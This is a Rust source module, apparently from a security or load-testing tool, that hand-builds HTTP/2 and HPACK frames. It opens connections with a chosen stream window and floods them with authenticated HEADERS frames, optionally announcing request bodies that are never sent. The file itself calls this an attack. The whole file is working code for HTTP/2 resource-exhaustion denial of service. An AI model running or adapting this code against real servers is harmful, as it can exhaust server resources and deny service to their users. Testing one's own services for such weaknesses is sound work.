//! The part of HTTP/2 that an attack needs: incomplete requests and unread answers (RFC 9113, RFC 7541).

use std::io::{self, Write};

use crate::client::{Endpoint, Stream};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A string of HPACK without Huffman's code.
fn string(text: &str) -> Vec<u8> {
    let byte = |number: usize| u8::try_from(number).expect("a byte");
    let mut out = Vec::new();
    let mut rest = match text.len() {
        length if length < 127 => {
            out.push(byte(length));
            return [out, text.as_bytes().to_vec()].concat();
        }
        length => length - 127,
    };
    out.push(127);
    while rest > 127 {
        out.push(byte(rest % 128) | 128);
        rest /= 128;
    }
    out.push(byte(rest));
    [out, text.as_bytes().to_vec()].concat()
}

/// Opens a connection whose streams have a window of this size, and sends this number of requests of the endpoint's
/// user. With `body` they announce a body of this length, which is never sent.
pub(crate) fn requests(
    endpoint: &Endpoint,
    window: u32,
    count: u32,
    (method, path): (&str, &str),
    body: Option<usize>,
) -> io::Result<Stream> {
    let mut stream = endpoint.http2().connect()?;
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &setting)].concat())?;
    let length = body.map(|length| length.to_string());
    let authorization = format!("Bearer {}", endpoint.token());
    let mut fields = vec![
        (":method", method),
        (":scheme", "https"),
        (":authority", "x"),
        (":path", path),
        ("authorization", &authorization),
    ];
    fields.extend(length.as_deref().map(|length| ("content-length", length)));
    let block: Vec<u8> =
        fields.iter().flat_map(|(name, value)| [vec![0], string(name), string(value)].concat()).collect();
    let end = if body.is_some() { 0 } else { END_STREAM };
    for at in 0..count {
        stream.write_all(&frame(HEADERS, END_HEADERS | end, 2 * at + 1, &block))?;
    }
    stream.flush()?;
    Ok(stream)
}
